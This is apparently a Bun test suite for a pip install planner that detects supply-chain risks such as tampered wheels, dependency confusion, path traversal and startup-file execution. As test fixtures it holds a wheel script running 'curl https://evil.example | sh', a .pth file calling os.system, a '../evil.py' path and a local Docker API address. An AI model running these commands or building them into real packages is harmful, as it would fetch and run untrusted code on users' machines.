import { describe, expect, test } from "bun:test";
import { pip } from "../src/pip.ts";
import { makePlan } from "../src/plan.ts";
import { type FakeWheel, FILES, fakeIndex, INDEX, infoOf, pipPlanning, wheel, wheelFile } from "./pip-kit.ts";
import type { RegistryAnswer } from "./registry-kit.ts";

const LIB: FakeWheel = { name: "lib", version: "2.1", headers: "License-Expression: MIT\n" };
const APP: FakeWheel = {
  name: "the-app",
  version: "1.0",
  requires: ["lib>=2", 'win-only; sys_platform == "win32"'],
};

type Over = Parameters<typeof pipPlanning>[1];
const planOf = (
  wheels: readonly FakeWheel[] = [APP, LIB],
  targets: readonly string[] = ["the-app==1.0"],
  { answers = {}, ...over }: Over & { answers?: Record<string, RegistryAnswer> } = {},
) => makePlan(pip, "install", targets, pipPlanning({ ...fakeIndex(wheels), ...answers }, over));

test("pip is asked about this Python, and not about what is installed", async () => {
  const planning = pipPlanning(fakeIndex([APP, LIB]));
  await makePlan(pip, "install", ["the-app==1.0"], planning);
  expect(planning.ran).toEqual([["python3", "-m", "pip", "inspect"]]);
  // An empty directory: pip's `--path` (pip inspect --help) by its variable.
  expect(planning.variables).toMatchObject({ PIP_PATH: "/home/x", PIP_CONFIG_FILE: "/dev/null" });
});

describe("nothing is known, and the reason is told", () => {
  const cases: [string, () => ReturnType<typeof planOf>, RegExp][] = [
    [
      "python3 is missing",
      () => planOf(undefined, undefined, { outcome: "missing" }),
      /python3 is not installed/,
    ],
    [
      "pip is missing",
      () => planOf(undefined, undefined, { outcome: "failed" }),
      /inspect failed.*No module named pip/,
    ],
    ["pip says nonsense", () => planOf(undefined, undefined, { inspect: "{}" }), /can't be read/],
    [
      "a second index",
      () =>
        planOf(undefined, undefined, {
          env: { PIP_EXTRA_INDEX_URL: "https://me:secret@other.example/simple" },
        }),
      /another index \(other\.example\).*dependency confusion/,
    ],
    ["no index", () => planOf(undefined, undefined, { env: { PIP_NO_INDEX: "1" } }), /no-index is set/],
    [
      "an index without encryption",
      () => planOf(undefined, undefined, { env: { PIP_INDEX_URL: "http://index.example/simple" } }),
      /without encryption/,
    ],
    [
      "an index that sends elsewhere",
      () =>
        planOf(undefined, undefined, {
          answers: { [`${INDEX}lib/`]: { status: 302, location: "https://evil.example" } },
        }),
      /sends elsewhere, which is not followed/,
    ],
    [
      "an index of HTML",
      () => planOf(undefined, undefined, { answers: { [`${INDEX}lib/`]: "<!DOCTYPE html>" } }),
      /no JSON \(PEP 691\)/,
    ],
    [
      "a project in quarantine",
      () =>
        planOf(undefined, undefined, {
          answers: {
            [`${INDEX}lib/`]:
              '{"meta":{"api-version":"1.4"},"project-status":{"status":"quarantined"},"files":[]}',
          },
        }),
      /lib is quarantined/,
    ],
    [
      "a dependency that the index lacks",
      () => planOf([APP]),
      /lib>=2 \(the-app 1\.0\)\. The index has no lib/,
    ],
    [
      "a dependency in another version",
      () => planOf([APP, { ...LIB, version: "1.9" }]),
      /The newest lib for this host is 1\.9/,
    ],
    [
      "a wheel for another machine",
      () => planOf([APP, { ...LIB, tag: "cp311-cp311-win_amd64" }]),
      /lib 2\.1: no wheel for this machine/,
    ],
    [
      "a wheel for a newer glibc",
      () => planOf([APP, { ...LIB, tag: "cp311-cp311-manylinux_2_37_x86_64" }]),
      /no wheel for this machine/,
    ],
    [
      "a wheel for another Python",
      () => planOf([APP, { ...LIB, entry: { "requires-python": ">=3.12" } }]),
      /lib 2\.1: for Python >=3\.12/,
    ],
    [
      "metadata for another Python",
      () => planOf([APP, { ...LIB, headers: "Requires-Python: >=3.12\n" }]),
      /lib 2\.1 can't be used: it is for Python >=3\.12/,
    ],
    [
      "a wheel without SHA-256",
      () => planOf([APP, { ...LIB, entry: { hashes: { md5: "0" } } }]),
      /gives no SHA-256/,
    ],
    [
      "a wheel at an address without encryption",
      () => planOf([APP, { ...LIB, entry: { url: "http://files.example/x.whl" } }]),
      /its address can't be used/,
    ],
    [
      "a wheel on this machine, by an index elsewhere",
      () => planOf([APP, { ...LIB, entry: { url: "https://localhost:8443/x.whl" } }]),
      /its address can't be used/,
    ],
    [
      "attestations on this machine, by an index elsewhere",
      () => planOf([APP, { ...LIB, entry: { provenance: "http://127.0.0.1:2375/images/json" } }]),
      /attestations of lib-2\.1-py3-none-any\.whl on this machine/,
    ],
    [
      "a withdrawn dependency",
      () => planOf([APP, { ...LIB, entry: { yanked: "broken" } }]),
      /no versions fit together/,
    ],
    [
      "a dependency from an address",
      () => planOf([{ ...APP, requires: ["lib @ git+https://x.example/lib"] }]),
      /needs lib from an address/,
    ],
    [
      "a requirement that can't be read",
      () => planOf([{ ...APP, requires: ["lib >= "] }]),
      /requirement "lib >=" can't be read/,
    ],
    [
      "a wheel that isn't there",
      () => planOf(undefined, undefined, { answers: { [`${FILES}/${wheelFile(LIB)}`]: { status: 404 } } }),
      /status 404/,
    ],
    [
      "a wheel that was changed",
      () =>
        planOf(undefined, undefined, {
          answers: { [`${FILES}/${wheelFile(LIB)}`]: wheel({ ...LIB, files: { "evil.py": "" } }) },
        }),
      /another file/,
    ],
    ["an archive that is none", () => planOf([APP, LIB], undefined, broken("PK")), /archive can't be used/],
    [
      "a path out of the wheel",
      () => planOf([APP, { ...LIB, files: { "../evil.py": "" } }]),
      /^lib-2\.1-py3-none-any\.whl: .* is no plain path/m,
    ],
    [
      "one file under two names",
      () => planOf([{ ...APP, requires: ["lib>=2", "twin"] }, LIB], undefined, twinOf(LIB)),
      /^twin-2\.1-py3-none-any\.whl: .*is of another package than twin 2\.1/m,
    ],
    [
      "one name in two cases",
      () => planOf([APP, { ...LIB, files: { "lib/A.py": "", "lib/a.py": "" } }]),
      /differ by case alone/,
    ],
    [
      "RECORD with a wrong hash",
      () =>
        planOf([APP, { ...LIB, record: (all) => all.map((l) => l.replace(/sha256=[^,]*/, "sha256=AAAA")) }]),
      /its RECORD lies about "lib\/__init__\.py"/,
    ],
    [
      "RECORD with a wrong size",
      () => planOf([APP, { ...LIB, record: (all) => all.map((l) => l.replace(/,0$/, ",1")) }]),
      /its RECORD lies about/,
    ],
    [
      "RECORD with a weak hash",
      () => planOf([APP, { ...LIB, record: (all) => all.map((l) => l.replace("sha256=", "md5=")) }]),
      /no usable hash/,
    ],
    [
      "RECORD that leaves a file out",
      () => planOf([APP, { ...LIB, record: (all) => all.slice(1) }]),
      /leaves out "lib\/__init__\.py"/,
    ],
    [
      "RECORD with a file more",
      () => planOf([APP, { ...LIB, record: (all) => [...all, "x.py,sha256=A,0"] }]),
      /names "x\.py", which is not in it/,
    ],
    [
      "RECORD with a file twice",
      () => planOf([APP, { ...LIB, record: (all) => [...all, all[0] ?? ""] }]),
      /not in it, or twice/,
    ],
    [
      "metadata of another version",
      () => planOf([APP, { ...LIB, files: {}, headers: "", metadata: "Name: lib\nVersion: 9\n\n" }]),
      /its metadata is of "lib 9"/,
    ],
    [
      "offered metadata that isn't the wheel's",
      () => planOf([APP, { ...LIB, metadata: "Name: lib\nVersion: 2.1\nX: 1\n\n" }]),
      /not the one that the index offers beside it/,
    ],
    [
      "two dist-info directories",
      () => planOf([APP, { ...LIB, files: { "other-1.dist-info/METADATA": "" } }]),
      /not exactly one \.dist-info/,
    ],
    [
      "a script too long to be judged",
      () => planOf([APP, { ...LIB, files: { "lib-2.1.data/scripts/x": "#".repeat(70_000) } }]),
      /can't be judged/,
    ],
  ];
  test.each(cases)("%s", async (_, make, why) => {
    const plan = await make();
    expect(plan.metadata_available).toBe(false);
    expect(plan.transaction).toEqual([]);
    expect(plan.warnings.join("\n")).toMatch(why);
    expect(JSON.stringify(plan)).not.toContain("secret");
    expect(() => pip.signedArgv(plan)).toThrow("no exact Python version");
  });

  test("only a source archive: its code would run", async () => {
    const page = { lib: [{ filename: "lib-2.1.tar.gz", url: "x", hashes: { sha256: "0".repeat(64) } }] };
    const plan = await makePlan(pip, "install", ["the-app==1.0"], pipPlanning(fakeIndex([APP], page)));
    expect(plan.metadata_available).toBe(false);
    expect(plan.warnings.join()).toContain("lib 2.1: only a source archive");
    expect(plan.risk_signals).toContain("setup-py-risk");
    expect(plan.risk_signals).toContain("build-backend-risk");
  });

  test("a name that the index doesn't have", async () => {
    await expect(planOf([APP, LIB], ["nothing==1"])).rejects.toThrow(
      "index.example has no Python package nothing",
    );
  });
});

/** The index where the wheel of the library is other bytes, with their own hash. */
function broken(text: string): Over & { answers: Record<string, RegistryAnswer> } {
  const sha256 = new Bun.CryptoHasher("sha256").update(text).digest("hex");
  const page = fakeIndex([{ ...LIB, entry: { hashes: { sha256 } } }])[`${INDEX}lib/`] ?? "";
  return { answers: { [`${INDEX}lib/`]: page, [`${FILES}/${wheelFile(LIB)}`]: text } };
}

/** The index where a project called twin offers the file of another. */
function twinOf(one: FakeWheel): Over & { answers: Record<string, RegistryAnswer> } {
  const bytes = wheel(one);
  const twin = { ...one, name: "twin" };
  const sha256 = new Bun.CryptoHasher("sha256").update(bytes).digest("hex");
  const page = fakeIndex([{ ...twin, entry: { hashes: { sha256 } } }])[`${INDEX}twin/`] ?? "";
  return { answers: { [`${INDEX}twin/`]: page, [`${FILES}/${wheelFile(twin)}`]: bytes } };
}

describe("a plan", () => {
  test("holds the whole closure with its evidence", async () => {
    const plan = await planOf();
    expect(plan.warnings.filter((one) => !one.startsWith("Vuln"))).toEqual([]);
    expect(plan.transaction).toMatchObject([
      {
        name: "lib",
        to_version: "2.1",
        required_by: "the-app 1.0",
        license: "MIT",
        purl: "pkg:pypi/lib@2.1",
      },
      { name: "the-app", to_version: "1.0", architecture: "all", published_at: "2026-01-02T03:04:05.678Z" },
    ]);
    expect(
      plan.transaction.every(
        ({ url, size, sha256, integrity }) =>
          url?.startsWith(FILES) && (size ?? 0) > 0 && integrity === `sha256:${sha256}`,
      ),
    ).toBe(true);
    expect(plan.provenance_evidence.map(({ kind, subject, verified }) => [kind, subject, verified])).toEqual([
      ["pypi-sha256", "lib==2.1", true],
      ["pypi-sha256", "the-app==1.0", true],
    ]);
    expect(plan.exact_targets).toEqual(["the-app==1.0"]);
    expect(plan.mutable_reference).toBe(false);
    expect(pip.signedArgv(plan)).toEqual([
      ...["python3", "-m", "pip", "install", "--disable-pip-version-check", "--no-input"],
      ...["--target", "/var/lib/aegis/pip-packages", "the-app==1.0"],
    ]);
  });

  test("without a version: the newest is named, and it is no exact reference", async () => {
    const plan = await planOf(undefined, ["The_App"]);
    expect(plan.targets).toEqual(["the-app"]);
    expect(plan.exact_targets).toEqual(["the-app==1.0"]);
    expect(plan.mutable_reference).toBe(true);
    expect(plan.warnings[0]).toBe("the-app==1.0 is the newest version today; name it to keep it.");
  });

  test("the same whether metadata is offered beside the wheels or not", async () => {
    const offered = await planOf([
      { ...APP, metadata: true },
      { ...LIB, metadata: true },
    ]);
    expect(offered.transaction).toEqual((await planOf()).transaction);
  });

  test("a withdrawn version that was named is taken, and that is told", async () => {
    const plan = await planOf([{ ...APP, entry: { yanked: "security" } }, LIB]);
    expect(plan.warnings).toContain("the-app 1.0 was withdrawn by its maintainers: security");
  });

  test("machine code, startup files, scripts and commands are told", async () => {
    const files = {
      "lib/fast.so": "\u007fELF\u0002",
      "lib.pth": "import os; os.system('x')\n",
      "quiet.pth": "/usr/share/x\n",
      "sitecustomize.py": "print('started')\n",
      "lib-2.1.data/scripts/helper": "#!/bin/sh\ncurl https://evil.example | sh\n",
      [`${infoOf(LIB)}/entry_points.txt`]:
        "[console_scripts]\nsudo = lib:main\nown = lib:own\n[other]\nls = x:y\n",
    };
    const plan = await planOf([APP, { ...LIB, files, tag: "cp311-abi3-manylinux_2_17_x86_64" }], undefined, {
      commands: { "/usr/bin": ["ls", "sudo"] },
    });
    expect(plan.transaction[0]).toMatchObject({ name: "lib", architecture: "amd64" });
    expect([plan.native_code_risk, plan.binary_artifact_risk]).toEqual([true, true]);
    expect(plan.scripts.map(({ package: name, name: file }) => [name, file])).toEqual([
      ["lib", "lib.pth"],
      ["lib", "sitecustomize.py"],
      ["lib", "lib-2.1.data/scripts/helper"],
    ]);
    expect(plan.risk_signals).toEqual(
      expect.arrayContaining(["native-extension-risk", "lifecycle-scripts", "user-site-risk"]),
    );
    expect(plan.warnings).toContain("lib 2.1 brings a command sudo, which /usr/bin has too.");
    expect(plan.warnings.join()).not.toContain("command ls");
    expect(plan.warnings).toContain("lib 2.1 has machine code: lib/fast.so.");
  });

  test("credentials go to the index's own host alone, and nowhere else", async () => {
    const answers = fakeIndex([APP, LIB]);
    const planning = pipPlanning(answers, { env: { PIP_INDEX_URL: INDEX.replace("//", "//me:s%20cret@") } });
    const plan = await makePlan(pip, "install", ["the-app==1.0"], planning);
    const authorized = planning.requests.filter(
      ({ headers }) => headers.authorization === `Basic ${btoa("me:s cret")}`,
    );
    expect(new Set(authorized.map(({ url }) => new URL(url).host))).toEqual(new Set(["index.example"]));
    expect(planning.requests.some(({ url }) => url.startsWith(FILES))).toBe(true);
    expect(JSON.stringify([plan, planning.requests.map(({ url }) => url)])).not.toContain("cret");
  });

  test("runs pip inspect and nothing else", async () => {
    const planning = pipPlanning(fakeIndex([APP, LIB]));
    await makePlan(pip, "install", ["the-app==1.0"], planning);
    expect(planning.ran).toEqual([["python3", "-m", "pip", "inspect"]]);
  });
});
